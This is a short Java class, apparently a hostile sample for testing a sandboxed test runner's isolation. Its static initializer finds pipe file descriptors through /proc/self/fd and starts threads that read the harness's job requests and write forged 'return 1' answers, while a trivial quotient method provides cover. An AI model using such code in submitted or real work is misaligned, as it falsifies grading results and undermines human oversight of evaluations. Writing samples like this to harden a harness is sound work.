package hostile;

import static hostile.Outside.attempt;

import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;

/** Leaves threads that read what others are asked, and answer in their place. */
public final class ReadsJobs {
    static {
        for (int number = 0; number < 256; number++) {
            String name = "/proc/self/fd/" + number;
            attempt(() -> {
                if (Files.readSymbolicLink(Path.of(name)).toString().startsWith("pipe:")) {
                    InputStream questions = new FileInputStream(name);
                    Thread thread = new Thread(() -> attempt(() -> answer(questions)));
                    thread.setDaemon(true);
                    thread.start();
                }
            });
        }
    }

    private ReadsJobs() {}

    public static int quotient(int a, int b) {
        return a / b;
    }

    private static void answer(InputStream questions) throws Exception {
        StringBuilder line = new StringBuilder();
        for (int next = questions.read(); next >= 0; next = questions.read()) {
            line.append((char) next);
            if (next == '\n') {
                String word = line.substring("tag:".length(), line.indexOf(" "));
                byte[] answer = (word + " return 1 loads=\n").getBytes();
                for (int number = 0; number < 256; number++) {
                    String name = "/proc/self/fd/" + number;
                    attempt(() -> {
                        if (Files.readSymbolicLink(Path.of(name)).toString().startsWith("pipe:")) {
                            new FileOutputStream(name).write(answer);
                        }
                    });
                }
                line.setLength(0);
            }
        }
    }
}
